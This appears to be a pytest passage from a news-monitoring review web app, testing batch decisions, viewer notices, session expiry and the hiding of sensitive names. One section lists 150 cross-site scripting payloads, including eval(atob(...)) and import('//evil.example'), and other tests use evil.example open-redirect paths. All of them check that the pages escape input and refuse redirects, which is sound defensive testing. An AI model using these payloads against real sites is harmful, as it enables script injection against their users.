
def test_items_that_changed_after_they_were_ticked_are_not_chosen(aida: Browser, bakyt: Browser):
    say(bakyt, 4, "unsure")
    _, page, seen = choose(aida, "4:1", "3:1")
    assert seen == "3:1" and "1 story moved on" in page.text_content()


def test_a_step_that_is_sent_twice_is_said_once(app: App, aida: Browser):
    assert [say_all(aida, "4:1 3:1", "relevant") for _ in range(2)] == [(303, "/queue")] * 2
    assert [len(app.item(n).history) for n in (3, 4)] == [1, 1]


def test_words_that_were_searched_for_choose_too_and_stand_in_no_address(aida: Browser):
    query = search(aida, "court custody")[0].removeprefix("/queue")
    _, page, seen = choose(aida, every="1", query=query)
    assert seen == "2:1 1:1"
    assert not any("court" in str(address) for address in page.xpath("//@href | //@action"))


def test_nothing_chosen_says_so_and_what_cannot_be_chosen_is_refused(app: App, aida: Browser):
    for status, page, seen in (choose(aida), choose(aida, "99:1")):
        assert (status, seen) == (200, "") and "No story is chosen" in page.text_content()
    for path, back in (
        ("/queue/together/decide?lang=ru", "/queue/together?lang=ru"),
        ("/queue/together?lang=ru", "/queue?lang=ru"),
        ("/items/4/undo", "/items/4"),
    ):
        assert aida.get(path).headers["location"] == back  # read again, as browsers do
    for pair in ("4", "4:x", "²:1", "4:1 3:1", "4:99999999999"):
        assert choose(aida, pair)[0] == 400, pair
    assert say_all(aida, " ".join(f"{n}:1" for n in range(501)), "relevant")[0] == 400
    assert say_all(aida, "4:1", "delete")[0] == 400 and app.item(4).history == ()


def test_a_long_list_shows_a_sample_from_all_of_it(tmp_path: Path, sqlite_with_tables: Path):
    app = home(tmp_path, sqlite_with_tables)
    app.clock = Clock(NOW)
    watch(app.store)
    made = [filed(app.store, at=NOW - n * HOUR).id for n in reversed(range(25))][::-1]
    browser = client(create_desk(app), account(app, "Aida", Role.REVIEWER))
    _, page, seen = choose(browser, every="1")
    sample = [int(href.split("/")[2]) for href in page.xpath("//a[@class='open']/@href")]
    assert len(seen.split()) == 25 and 6 < len(sample) <= 12
    assert sample[0] == made[0] and sample[-1] in made[-3:] and sample == [n for n in made if n in sample]
    assert "Melis Tokoev" in page.text_content() and "25" in page.text_content()
    app.close()


# ---- who is looking -------------------------------------------------------------------------------------------------


def test_others_see_who_is_looking_for_ten_minutes_and_may_decide_all_the_same(app: App):
    desk = create_desk(app)
    aida, bakyt = (client(desk, account(app, name, Role.REVIEWER)) for name in ("Aida", "Bakyt"))

    def told(browser: Browser, path: str) -> list[str]:
        page = html.fromstring(browser.get(path).text)
        return [" ".join(e.text_content().split()) for e in page.xpath("//p[@class='looking']/span[2]")]

    aida.get("/items/4")
    assert told(bakyt, "/queue") == ["Aida is looking"] and told(aida, "/queue") == []
    assert told(bakyt, "/items/4") == ["Aida is looking"] and told(aida, "/items/4") == ["Bakyt is looking"]
    app.clock.now += 9 * MINUTE  # type: ignore[attr-defined]
    aida.get("/items/4")
    app.clock.now += 2 * MINUTE  # type: ignore[attr-defined]
    assert told(bakyt, "/queue") == ["Aida is looking"] and told(aida, "/items/4") == []  # she opened it again
    aida.get("/items/3")  # one looks at one thing
    assert told(bakyt, "/items/4") == [] and told(bakyt, "/items/3") == ["Aida is looking"]
    assert say(bakyt, 3, "relevant") == (303, "/items/2") and told(bakyt, "/queue?show=decided") != []
    say(aida, 2, "relevant", query="?outlet=Copycat")
    assert told(bakyt, "/queue") == []


def test_readers_are_not_shown_as_viewers(app: App):
    desk = create_desk(app)
    reader, aida = (client(desk, account(app, role, role)) for role in (Role.READER, Role.REVIEWER))
    reader.get("/items/4")
    assert "is looking" not in aida.get("/queue").text and "pick" not in reader.get("/queue").text


def test_a_clock_that_was_set_back_keeps_nobody_as_viewer_for_ever():
    claims = Claims()
    claims.claim(1, "Aida", NOW + DAY)
    assert claims.viewed_by_others("Bakyt", NOW + DAY) == {1: ["Aida"]} and claims.viewed_by_others("Bakyt", NOW) == {}


# ---- the card -------------------------------------------------------------------------------------------------------


def test_a_card_says_how_often_a_name_was_right_and_how_sure_that_is(app: App, aida: Browser):
    def told() -> list[str]:
        page = html.fromstring(aida.get("/items/4").text)
        return [" ".join(e.text_content().split()) for e in page.xpath("//p[@class='so-far']")]

    assert told() == [] and "not judged before" in aida.get("/items/4").text
    say(aida, 4, "relevant")  # of itself a card says nothing
    say(aida, 1, "not-relevant")  # without a reason that is no word on the name
    assert told() == [] and "not judged before" not in aida.get("/items/4").text
    say(aida, 3, "relevant")
    say(aida, 2, "not-relevant:another-person")
    assert told() == ["Right in 1 of 2 stories so far: too few to go by."]
    app.undo(by="Aida", item=2)
    assert told() == ["Right in 1 of 1 story so far: too few to go by."]


def test_the_most_similar_earlier_decisions_are_on_the_card(tmp_path: Path, sqlite_with_tables: Path):
    app = home(tmp_path, sqlite_with_tables)
    app.clock = Clock(NOW)
    watch(app.store)
    plain = {"text": "M. Tokoev ran.", "outlet": "Sport"}
    other = {"text": TEXT, "outlet": "Sport"}
    for n, what in enumerate(
        (other, plain, {**plain, "outlet": "Herald"}, {**other, "outlet": "Herald"}, other, other)
    ):
        name = "M. Tokoev" if what["text"] != TEXT else "Melis Tokoev"
        filed(app.store, hit(name, text=what["text"]), title=f"Number {n + 1}", at=NOW + n * MINUTE, **what)
    browser = client(create_desk(app), account(app, "Aida", Role.REVIEWER))
    for n in range(1, 6):
        say(browser, n, "not-relevant:another-person" if n in {2, 3} else "relevant")
    page = html.fromstring(browser.get("/items/6").text)
    told = [" ".join(e.text_content().split()) for e in page.xpath("//section[@class='earlier']//li")]
    assert [words.split(" · ")[1].split(" also")[0] for words in told] == ["Number 5", "Number 1", "Number 4"]
    assert "relevant" in told[0] and "also as Melis Tokoev, also at Sport" in told[0] and "Aida" in told[0]
    assert "also at" not in told[2] and "also as Melis Tokoev" in told[2]
    assert page.xpath("//section[@class='earlier']//a/@href") == ["/items/5", "/items/1", "/items/4"]
    likely = page.xpath("//p[@class='so-far']")[0].text_content()
    assert "Right in 3 of 5 stories so far: of a hundred, likely 23 to 88." in " ".join(likely.split())
    told = html.fromstring(browser.get("/items/2").text).xpath("//section[@class='earlier']//li")
    assert "another person" in told[0].text_content() and "also as M. Tokoev" in " ".join(
        told[0].text_content().split()
    )
    app.close()


def test_the_evidence_of_an_article_is_at_hand_on_the_card(aida: Browser):
    page = html.fromstring(aida.get("/items/2").text)
    assert page.xpath("//code/@title")[0] == f"SHA-256: {sha256(TEXT.encode()).hexdigest()}"
    assert "fetched" in page.xpath("//section[@class='paper']")[0].text_content()
    live = page.xpath("//section[@class='paper']//a[@target='_blank']")[0]
    assert live.get("rel") == "noreferrer noopener external"


def test_a_card_shows_each_name_in_its_words_with_the_reason(aida: Browser):
    page = aida.get("/items/4?latin=1").text
    mark = '<mark><a href="#name-1" title="Melis Tokoev" data-whose="Melis Tokoev">Мелис Токоев</a></mark>'
    assert f"{mark} остаётся под стражей" in page
    assert "Melis Tokoev ostaetsya" in page and 'lang="ru-Latn"' in page
    assert "same words" in page and "stored text" in page
    article = aida.get("/items/2/articles/2").text
    assert sha256(TEXT.encode()).hexdigest() in article and 'rel="noreferrer noopener external"' in article


def test_a_card_folds_away_whose_romanisation_a_name_follows(app: App, aida: Browser):
    text = "Суд отпустил Melis Tokoev."
    detail = Message(REASON_ROMANISATION, "Tokoev", Message("{} for {}", "kh", "х"))
    named = replace(mention("Melis Tokoev", text), why=(Message(REASON_OTHER_SCRIPT, "Tokoev", "Токоев"), detail))
    item = filed(app.store, replace(hit(text=text), mentions=(named,)), text=text)
    page = html.fromstring(aida.get(f"/items/{item.id}").text)
    (fold,) = page.xpath("//details[@class='why']//details")
    assert "open" not in fold.attrib
    assert [e.text_content() for e in fold] == ["How it is romanised", "letters of Tokoev: kh for х"]
    (reason,) = page.xpath("//details[@class='why']/ul/li/ul/li")
    assert reason.text_content() == "“Tokoev” = Токоев in the other script"
    (mention_row,) = item_row(app.item(item.id))["hits"][0]["mentions"]
    assert (mention_row["why"], mention_row["romanisation"]) == ([str(named.why[0])], [str(detail)])


def test_a_card_does_not_say_of_a_judged_name_that_it_was_never_judged(app: App, aida: Browser):
    assert "not judged before" in words_of(aida, "/items/3")
    say(aida, 3, "relevant")
    assert "not judged before" not in words_of(aida, "/items/3")


@pytest.mark.parametrize(("language", "does", "done"), [("ru", "разделить сюжет", "сюжет разделён"),
                                                        ("ky", "окуяны бөлүү", "окуя бөлүндү")])  # fmt: skip
def test_the_list_of_keys_says_what_a_key_does_not_what_was_done(app: App, language: str, does: str, done: str):
    page = client(create_desk(app), account(app, "Vera", Role.REVIEWER, language)).get("/queue").text
    assert does in page and done not in page


def test_a_stored_text_is_whole_and_shows_where_it_names_whom_the_reader_may_see(app: App, aida: Browser):
    text = "  Melis Tokoev <b>was held</b>.\n\nAizada Hidden\tknows Melis\nTokoev; Melis Tokoev does not.\n"
    watch(app.store, SECRET)
    named = (hit("Melis Tokoev", text=text), hit("Aizada Hidden", entity="secret", text=text))
    item = filed(app.store, *named, at=NOW, text=text, title="Held")
    page = f"/items/{item.id}/articles/{item.lead.id}"
    boss = client(create_desk(app), account(app, "Root", Role.ADMIN))
    for reader, marked in ((boss, ["Melis Tokoev", "Aizada Hidden"]), (aida, ["Melis Tokoev"])):
        shown = html.fromstring(reader.get(page).text).xpath("//div[@class='text']")[0]
        assert [p.text_content().strip() for p in shown] == [line.strip() for line in text.splitlines() if line]
        assert [mark.text_content() for mark in shown.iter("mark")] == marked
        assert [a.get("title") for a in shown.iter("a")] == marked and all(
            "/names/" in a.get("href") for a in shown.iter("a")
        )


def test_a_question_about_a_hidden_name_is_not_shown_to_whoever_may_not_see_it(app: App, aida: Browser):
    watch(app.store, SECRET)
    both = "Melis Tokoev spoke to Aizada Hidden."
    item = filed(app.store, hit("Melis Tokoev", text=both), hit("Aizada Hidden", "secret", both), text=both, at=NOW).id
    app.decide(item, Verdict.UNSURE, by="Root", entity="secret", note="Is it her?")
    assert "Is it her?" not in aida.get(f"/items/{item}").text + aida.get("/queue").text
    assert item in listed(aida, "?show=new") and item not in listed(aida, "?show=asked")


def test_a_date_without_a_time_is_shown_with_the_sources_own_words(app: App, aida: Browser):
    told = "the source wrote: 02.03.2026"
    for precision, shown in (("moment", False), ("day", True)):
        with app.store.database.writing("a test") as connection:
            values = {"published": NOW, "published_precision": precision, "published_raw": "02.03.2026"}
            connection.execute(update(t.article_version).where(t.article_version.c.article == 2).values(values))
        assert (told in aida.get("/items/2/articles/2").text) is shown


@given(st.text("абв .\n", max_size=2700), st.data())
def test_an_article_is_its_own_text_with_its_places_marked(source: str, data: st.DataObject):
    place = st.integers(0, len(source)).flatmap(lambda a: st.integers(a, len(source)).map(lambda b: Span(a, b)))
    inside = sorted(data.draw(st.lists(place, max_size=4)), key=lambda s: s.start)
    parts = list(split_at_mentions(source, Span(0, len(source)), inside))
    assert "".join(p.text for p in parts) == source
    paragraphs = "".join(
        p.text for parts in _marked_paragraphs(source, dict.fromkeys(inside, ("melis",))) for p in parts
    )
    assert "".join(paragraphs.split()) == "".join(source.split())


def test_a_word_named_twice_in_a_sentence_is_marked_twice():
    source = "Kos asked Kos."
    parts = split_at_mentions(source, Span(0, len(source)), [Span(0, 3), Span(10, 13)])
    assert list(parts) == [TextPart("Kos", True), TextPart(" asked "), TextPart("Kos", True), TextPart(".")]


# ---- nothing of the world runs --------------------------------------------------------------------------------------

_SCRIPTS = ("alert(1)", "alert`1`", "top['al'+'ert'](1)", "import('//evil.example')", "eval(atob('YWxlcnQoMSk='))")
_SHAPES = (
    "<script>{}</script>", "</script><script>{}</script>", "<ScRiPt >{}</sCrIpT>", "<img src=x onerror={}>",
    "<svg onload={}>", "<svg><animate onbegin={} attributeName=x>", "<body onload={}>", "<iframe srcdoc='<script>{}</script>'>",
    "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>", "<math href=javascript:{}>x", "\"><script>{}</script>",
    "' onmouseover={} x='", "\" onfocus={} autofocus x=\"", "--><script>{}</script>", "]]><script>{}</script>",
    "</title><script>{}</script>", "</textarea><script>{}</script>", "</style><script>{}</script>", "{{{{ {} }}}}",
    "{{% raw %}}{}", "${{{}}}", "<details open ontoggle={}>", "<form action=javascript:{}><button>x", "<object data=javascript:{}>",
    "<base href=javascript:{}//>", "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<style>@import 'x{}'</style>",
    "<link rel=stylesheet href=javascript:{}>", "<template><script>{}</script></template>",
)  # fmt: skip
PAYLOADS = [shape.format(script) for shape in _SHAPES for script in _SCRIPTS]
ELEMENTS = frozenset(
    "html head meta title link script body p div a abbr del ins header nav div button kbd span main h1 h2 h3 form input label "
    "details summary select option ol ul li time section article blockquote mark footer aside fieldset legend "
    "textarea bdi b strong dl dt dd code dialog template table thead tbody tr th td svg path".split()
)


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) == 150


def lookers(page: str) -> str:
    return page.split('class="looking"')[1].replace("<bdi>", "").replace("</bdi>", "")


def test_no_text_of_strangers_becomes_markup(tmp_path: Path, sqlite_with_tables: Path):
    app = home(tmp_path, sqlite_with_tables)
    app.clock = Clock(NOW)
    evil = "\n".join(PAYLOADS)
    nobody = Entity("evil", "Evil " + PAYLOADS[0], EntityType.PERSON, ("<script>alias()</script>",))
    watch(app.store, MELIS, nobody)
    text = f"Melis Tokoev {evil} Melis Tokoev"
    found = replace(mention("Melis Tokoev", text), why=tuple(PAYLOADS), alias=PAYLOADS[1])
    in_title = replace(found, field=Field.TITLE, span=Span(0, 12))
    item = filed(
        app.store,
        replace(hit(text=text), mentions=(found, in_title), why=PAYLOADS[2]),
        hit("Melis Tokoev", "evil", text),
        text=text,
        title=f"Melis Tokoev {evil}",
        url="javascript:alert(1)",
        outlet=PAYLOADS[3],
        authors=(PAYLOADS[4],),
        language="<x>",
    )
    admin = account(app, "<img src=x onerror=alert(1)>", Role.ADMIN)
    browser = client(create_desk(app), admin)
    app.store.runs.save(Run(started=NOW, ended=NOW, problems=(PAYLOADS[5],)))
    filed(app.store, hit(text=text), text=text, title=f"{PAYLOADS[7]} Melis Tokoev", outlet=PAYLOADS[3], country="<b>")
    say(browser, item.id + 1, "not-relevant:common-word")
    other = client(browser.desk, account(app, "\u202e<svg onload=alert(1)>", Role.ADMIN))
    say(browser, item.id, "unsure", note=evil[:1900])
    say(browser, item.id, "relevant", note=PAYLOADS[6])  # a conflict
    pages = [f"/items/{item.id}?latin=1", f"/items/{item.id}/articles/1", "/queue?latin=1", "/queue?outlet=%3Cscript%3E", "/digest",
             "/runs", "/people", "/audit", "/account", "/sign-in?next=%22%3E%3Cscript%3E", "/sources", "/statistics",
             "/<script>"]  # fmt: skip
    shown = [browser.get(page).text for page in pages]
    shown.append(browser.get(search(browser, PAYLOADS[0])[0]).text)
    other.get(f"/items/{item.id}")
    shown += [browser.get(f"/items/{item.id}").text, browser.get("/queue?filters=1&show=asked").text]
    assert all("&lt;svg onload=alert(1)&gt; is looking" in lookers(page) for page in shown[-2:])
    assert "&lt;script&gt;" in shown[-2].split('class="earlier"')[1]
    shown.append(browser.post("/queue/together", {"every": "1"}).text)
    shown.append(browser.post("/queue/together", {"pick": [f"{item.id}:1"]}).text)
    shown.append(browser.post("/sign-in", {"name": PAYLOADS[0], "password": "x", "next": PAYLOADS[1]}).text)
    shown.append(browser.post(f"/items/{item.id}/decide", {"act": "relevant", "version": 1, "note": evil[:1900]}).text)
    draft = {"act": "relevant", "version": 1, "note": evil[:1900], "author": admin.id}
    for path in (f"/items/{item.id}/decide", "/queue/together/decide"):
        again = client(browser.desk)
        shown.append(again.post(path, {**draft, "seen": PAYLOADS[0]}).text)
        shown.append(followed(again, sign_in(again, admin.name, shown[-1])).text)
        assert "your session had ended" in shown[-1]
    app.close()
    for page in shown:
        for element in html.fromstring(page).iter():
            if not isinstance(element.tag, str):
                continue
            assert element.tag in ELEMENTS, element.tag
            for name, value in element.attrib.items():
                assert not name.startswith("on") and name not in {"style", "srcdoc"}, name
                if name in {"href", "src", "action"}:
                    assert value.startswith(("/", "#", "?", "https://post.example")), value
            if element.tag == "template":
                assert element.get("id") == "undelivered"
            if element.tag == "script":
                assert element.get("src", "").startswith("/static/") and not element.text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in shown[0]


def test_the_vendored_script_is_the_one_that_was_reviewed():
    static = files("monitor.web") / "static"
    digest = sha256((static / "htmx.min.js").read_bytes()).hexdigest()
    assert digest == "a0abb04f2f45a1f89d1d4844023245537e5e6014c87b144553e0607b4cc32130"  # htmx.org 4.0.1
    assert (static / "htmx.LICENSE.txt").read_text("utf-8").startswith("Zero-Clause BSD")


# ---- the session ended ----------------------------------------------------------------------------------------------

NOTE = "She called.\nMelis & <b>Cholpon</b>"


def hidden(page: str) -> dict[str, str]:
    return {
        field.get("name"): field.get("value") for field in html.fromstring(page).xpath("//form//input[@type='hidden']")
    }


def sign_in(browser: Browser, name: str, page: str, password: str = PASSWORD) -> httpx.Response:
    """Fill in and send the sign-in page that is open, as a browser without JavaScript does."""
    return browser.post("/sign-in", {**hidden(page), "name": name, "password": password})


def followed(browser: Browser, answer: httpx.Response) -> httpx.Response:
    while answer.status_code == 303:
        assert "called" not in answer.headers["location"] and "act=" not in answer.headers["location"]
        answer = browser.get(answer.headers["location"])
    return answer


def test_a_decision_after_the_session_ended_comes_back_with_its_note(app: App, aida: Browser):
    author = app.store.people.by_name("Aida").id
    form = {"act": "not-relevant:common-word", "version": 1, "note": NOTE, "author": author}
    app.clock.now += 13 * HOUR
    asked = aida.post("/items/3/decide?show=new", form)
    assert asked.status_code == 401 and html.fromstring(asked.text).xpath("//*[@role='alert']")
    assert "Not stored: your session had ended" in asked.text and "Your note is kept" in asked.text
    asked = sign_in(aida, "Aida", asked.text, "a wrong password")
    assert asked.status_code == 401 and hidden(asked.text)["note"] == NOTE
    for _ in range(2):  # also when the page is loaded once more
        card = followed(aida, sign_in(aida, "Aida", asked.text))
        assert (card.url.path, card.url.query) == ("/items/3", b"show=new")
        assert html.fromstring(card.text).get_element_by_id("note").text == NOTE
        assert "your session had ended" in card.text and "You wanted to say: not relevant" in card.text
    assert app.item(3).history == ()
    assert (
        "your session had ended" not in aida.get("/items/4").text
        and "your session had ended" not in aida.get("/queue").text
    )
    assert say(aida, 3, "not-relevant", note=NOTE)[0] == 303
    assert "your session had ended" not in aida.get("/items/3").text


def test_a_note_that_waits_is_shown_to_its_author_alone_and_for_ten_minutes(app: App, aida: Browser, bakyt: Browser):
    form = {"act": "relevant", "version": 1, "note": NOTE, "author": app.store.people.by_name("Aida").id}
    stranger = client(aida.desk)
    page = stranger.post("/items/3/decide", form).text
    card = followed(stranger, sign_in(stranger, "Bakyt", page))
    assert card.url.path == "/items/3" and "called" not in card.text and "your session had ended" not in card.text
    again = client(aida.desk)
    assert "called" in followed(again, sign_in(again, "Aida", page)).text
    assert "called" not in bakyt.get("/items/3").text
    app.clock.now += 11 * MINUTE
    assert "called" not in again.get("/items/3").text


def test_a_step_of_many_after_the_session_ended_is_shown_again_with_its_note(app: App, aida: Browser):
    form = {"act": "relevant", "seen": "4:1 2:1", "note": NOTE, "author": app.store.people.by_name("Aida").id}
    aida.cookies.clear()
    queue = followed(aida, sign_in(aida, "Aida", aida.post("/queue/together/decide?show=new", form).text))
    assert queue.url.path == "/queue" and "You wanted to say of 2 stories: relevant." in queue.text
    (again,) = html.fromstring(queue.text).xpath("//section[@role='alert']//form")
    picked = {
        "pick": again.xpath(".//input[@name='pick']/@value"),
        "note": again.xpath(".//input[@name='note']/@value"),
    }
    assert again.get("action") == "/queue/together?show=new"
    page = html.fromstring(aida.post(again.get("action"), picked).text)
    assert page.xpath("//input[@name='seen']/@value")[0].split() == ["4:1", "2:1"]
    assert page.get_element_by_id("note").text == NOTE and app.item(4).history == ()
    assert say_all(aida, "4:1 2:1", "relevant")[0] == 303 and "your session had ended" not in aida.get("/queue").text


@pytest.mark.parametrize(
    "path", ["/items/4/undo", "/items/4/split", "/queue", "/queue/together", "/queue/together/merge", "/account"]
)
def test_any_form_after_the_session_ended_asks_to_sign_in_and_leads_back(app: App, aida: Browser, path: str):
    aida.cookies.clear()
    asked = aida.post(path, {"decision": 1, "words": "called", "note": "called"})
    assert asked.status_code == 401 and "Not stored: your session had ended" in asked.text
    assert "Your note" not in asked.text
    place = followed(aida, sign_in(aida, "Aida", asked.text)).url.path
    assert place == {"items": "/items/4", "queue": "/queue", "account": "/account"}[path.split("/")[1]]


@pytest.mark.parametrize("path", ["//evil.example", "https://evil.example/items/3/decide", "/\\evil.example"])
def test_a_decision_that_waits_leads_to_no_other_site(app: App, path: str):
    me = account(app, "Aida", Role.REVIEWER)
    form = {"next": path, "act": "relevant", "author": me.id, "name": "Aida", "password": PASSWORD}
    assert client(create_desk(app)).post("/sign-in", form).headers["location"] == "/"


def test_what_a_stranger_sends_is_text_on_the_sign_in_page_and_nothing_is_kept_of_it(app: App):
    stranger = client(create_desk(app))
    form = {"act": "relevant", "note": "</textarea><script>alert(1)</script>", "author": "1'><svg onload=alert(1)>"}
    assert "alert(1)" not in stranger.post("/items/3/decide", form).text  # it has no author
    page = html.fromstring(stranger.post("/items/3/decide", {**form, "author": "1", "act": "relevant:<svg>"}).text)
    assert not page.xpath("//script") and hidden(html.tostring(page, encoding="unicode"))["note"] == form["note"]
    for body in (b"\xff\xfe=%ff&act", b"", b"a&" * 30_000):
        kind = {**OURS, "content-type": "application/x-www-form-urlencoded"}
        assert stranger.post("/items/3/decide", content=body, headers=kind).status_code == 401


# ---- names that only administrators may know of ---------------------------------------------------------------------


def two_homes(tmp_path: Path, tables: Path) -> tuple[App, App]:
    """Return two desks with the same news, with and without a sensitive name; items about it alone come last."""
    both = "Melis Tokoev wrote of Aizada Hidden."
    apps = []
    for name, known in (("with", True), ("without", False)):
        (tmp_path / name).mkdir()
        app = home(tmp_path / name, tables)
        app.clock = Clock(NOW)
        watch(app.store, MELIS, KOS, *([SECRET] if known else []))
        secret = [hit("Aizada Hidden", "secret", both)] if known else []
        filed(app.store, at=NOW - 3 * HOUR, url="https://post.example/a")
        item = filed(app.store, hit(text=both), *secret, at=NOW - 2 * HOUR, text=both, url="https://post.example/b")
        alone = "Aizada Hidden was seen."
        if known:
            joins = stored(app.store, hit("Aizada Hidden", "secret", alone), at=NOW - HOUR, text=alone, outlet="Other")
            now = replace(item, version=item.version)
            app.store.stories.file(joins, Placement(item.story), now, NOW - HOUR, expected_version=item.version)
            filed(
                app.store,
                hit("Aizada Hidden", "secret", alone),
                at=NOW - HOUR,
                text=alone,
                outlet="Third",
                language="ky",
            )
        else:
            for n in (8, 9):
                (entry,) = backlog(app.store, item_of(n))
                kept = article(f"post.example/{n}", alone, first_seen=NOW - HOUR)
                app.store.entries.save_result(Result(entry, NOW - HOUR, Outcome.NO_MATCH, article=kept))
        ended_as = {Outcome.QUEUED: 3} if known else {Outcome.QUEUED: 1, Outcome.NO_MATCH: 2}
        app.store.runs.save(Run(NOW, ended=NOW, fetched=1, entries=4, outcomes={**ended_as, Outcome.OLD: 1}))
        apps.append(app)
    return apps[0], apps[1]


def test_without_the_role_a_sensitive_name_changes_nothing_anywhere(tmp_path: Path, sqlite_with_tables: Path):
    apps = two_homes(tmp_path, sqlite_with_tables)
    seen = []
    for app in apps:
        desk = create_desk(app)
        browser, admin = (
            client(desk, account(app, "Aida", Role.REVIEWER)),
            client(desk, account(app, "Root", Role.ADMIN)),
        )
        say(admin, 1, "not-relevant:another-person")  # a precedent on the card of the other
        admin.get("/items/2")  # and now "Root is looking"
        pages = ["/queue", "/queue?at=2", "/queue?at=3", "/queue?at=3&show=decided", "/queue?filters=1", "/queue?country=KG&filters=1", "/queue?filters=1&show=decided",
                 "/queue?because=another-person&show=decided", "/queue?show=new", "/queue?show=new", "/queue?outlet=Other", "/queue?lang=ky", "/queue?name=3", "/items/1", "/items/2",
                 "/items/3", "/items/1?same=1", "/items/2?same=1", "/items/2/articles/3", "/queue.json", "/queue.csv", "/queue.atom", "/queue.atom?show=decided", "/statistics", "/digest", "/runs"]  # fmt: skip
        answers = [browser.get(page) for page in pages]
        desk.pages.state.searches = searches.Searches(_key=bytes(32))  # so that numbers are the same at both
        answers.append(browser.get(search(browser, "seen")[0]))
        answers += [
            browser.post("/queue/together", {"every": "1"}),
            browser.post("/queue/together", {"pick": ["2:1", "3:1"]}),
        ]
        say_all(admin, "1:2 2:1", "not-relevant:another-person")  # with the hidden name, where there is one
        answers += [browser.get(page) for page in ("/queue", "/items/1", "/items/2", "/queue?filters=1&show=decided")]
        said = app.item(2).history[-1].id
        answers += [browser.post("/items/2/undo", {"decision": said}), browser.get("/queue"), browser.get("/items/2")]
        say_all(browser, "1:4 2:3", "not-relevant:common-word")
        answers += [browser.get("/queue?said=1"), browser.get("/items/2"), browser.get("/queue?filters=1&show=decided")]
        answers.append(browser.post("/queue/together/decide", {"seen": "1:1 2:1 3:1", "act": "relevant"}))
        app.undo(by="Aida")
        answers += [browser.post("/items/2/decide", {"act": "relevant", "version": 5}), browser.get("/queue")]
        answers += [
            browser.get("/queue?show=decided"),
            browser.get("/items/2"),
            browser.get("/queue.json?show=decided"),
            browser.get("/queue.atom?show=decided"),
            browser.get("/statistics"),
        ]
        seen.append(answers)
    nothing_changed(*seen)
    for app in apps:
        app.close()


def test_an_expired_item_about_a_sensitive_name_is_in_no_list_or_count_of_a_reader(
    tmp_path: Path, sqlite_with_tables: Path
):
    apps, answers = two_homes(tmp_path, sqlite_with_tables), []
    for app in apps:
        app.clock.now = NOW + timedelta(days=31)
        assert app.store.reviews.expire(app.clock.now) >= 2
        browser = client(create_desk(app), account(app, "Aida", Role.REVIEWER))
        pages = ["/queue", "/queue?show=decided", "/queue?filters=1&show=decided", "/queue?show=later", "/queue.json?show=decided",
                 "/queue.csv?show=decided", "/queue.atom?show=decided", "/items/1", "/items/2", "/statistics", "/digest"]  # fmt: skip
        pages += [f"/digest/{NOW + timedelta(days=days):%Y-%m-%d}" for days in (-1, 0)]
        answers.append([browser.get(page) for page in pages])
    nothing_changed(*answers)
    for app in apps:
        app.close()


ITEM_FORMS = [
    ("GET", "/items/{}", {}),
    ("GET", "/items/{}?same=1", {}),
    ("GET", "/items/{}/articles/4", {}),
    ("POST", "/items/{}/decide", {"act": "relevant", "version": 1}),
    ("POST", "/items/{}/decide", {"act": "relevant", "version": 9, "entity": 3}),
    ("POST", "/items/{}/decide", {}),
    ("POST", "/items/{}/undo", {"decision": 1}),
    ("POST", "/items/{}/undo", {"regrouping": 1}),
    ("POST", "/items/{}/split", {"version": 1, "article": [4]}),
    ("POST", "/queue/together", {"pick": ["{}:1"]}),
    ("POST", "/queue/together/decide", {"seen": "{}:1", "act": "relevant"}),
    ("POST", "/queue/together/merge", {"seen": "{}:1 1:1"}),
    ("POST", "/queue/together/merge", {"seen": "1:1 {}:1"}),
]


@pytest.mark.parametrize("role", [Role.READER, Role.REVIEWER])
def test_an_item_about_a_sensitive_name_answers_as_one_that_is_not_there(
    role: Role, tmp_path: Path, sqlite_with_tables: Path
):
    app, other = two_homes(tmp_path, sqlite_with_tables)
    other.close()
    assert "Aizada Hidden" in client(create_desk(app), account(app, "Root", Role.ADMIN)).get("/items/3").text
    browser = client(create_desk(app), account(app, "Aida", role))
    for method, path, form in ITEM_FORMS:
        answers = []
        for number in (3, 77_777):
            data = {
                name: [v.format(number) for v in value] if name == "pick" else str(value).format(number)
                for name, value in form.items()
            }
            answer = browser.request(method, path.format(number), data=data, headers=OURS)
            told = re.sub(rf"/items/{number}\b|\b{number}:1\b", "the item", answer.text)
            answers.append((answer.status_code, told, answer.headers.get("location")))
        assert answers[0] == answers[1], (method, path, form)
    app.close()


def nothing_changed(with_it: Sequence[httpx.Response], without: Sequence[httpx.Response]) -> None:
    for one, other in zip(with_it, without, strict=True):
        assert "Aizada Hidden was seen" not in one.text and "Aizada H." not in one.text
        told = [a.text.replace("https://post.example/", "").splitlines() for a in (one, other)]
        assert one.status_code == other.status_code and told[0] == told[1], one.url


def merged_and_split(app: App, versions: list[int], *, known: bool) -> list[httpx.Response]:
    """Return a reviewer's pages while an administrator merges the item about the sensitive name into item 1 and back.

    Where there is no such name, item 1 is changed to the same `versions`.
    """
    desk, answers = create_desk(app), []
    browser = client(desk, account(app, "Aida", Role.REVIEWER))
    admin = client(desk, account(app, "Root", Role.ADMIN))
    pages = [f"/queue{what}" for what in ("", "?show=decided&filters=1", "?show=later", ".json", ".csv", ".atom")]
    pages += ["/items/1", "/items/2", "/items/3", "/items/4", "/statistics", "/digest", "/queue.json?show=decided"]
    steps: list[Callable[[], object]] = [
        lambda: say(admin, 3, "later:7", note="Aizada H. is our source"),
        lambda: app.merge(1, 3, by="Root"),
        lambda: app.split(1, [app.item(1).articles[-1].id], by="Root"),
    ]
    for number, step in enumerate(steps):
        app.clock.now += MINUTE  # type: ignore[attr-defined]
        if known:
            step()
            versions.append(app.item(1).version)
        else:
            with app.store.database.writing("a test") as connection:
                connection.execute(update(t.review_item).where(_ONE).values(version=versions[number]))
        answers += [browser.get(page) for page in pages]
        answers.append(browser.post("/items/3/decide", {"act": "relevant", "version": 2}))
    if known:
        assert "Aizada H. is our source" in admin.get("/items/3").text
    assert say(browser, 1, "relevant", versions[-1])[0] == 303
    return answers


_ONE = t.review_item.c.id == 1


def test_a_sensitive_name_is_not_revealed_by_a_merge_of_an_item_about_it_alone(
    tmp_path: Path, sqlite_with_tables: Path
):
    apps, versions = two_homes(tmp_path, sqlite_with_tables), list[int]()
    nothing_changed(*(merged_and_split(app, versions, known=app is apps[0]) for app in apps))
    assert versions == [1, 3, 4]
    for app in apps:
        app.close()


def test_a_sensitive_name_is_not_revealed_by_a_reviewers_merges_and_splits(tmp_path: Path, sqlite_with_tables: Path):
    apps, seen = two_homes(tmp_path, sqlite_with_tables), []
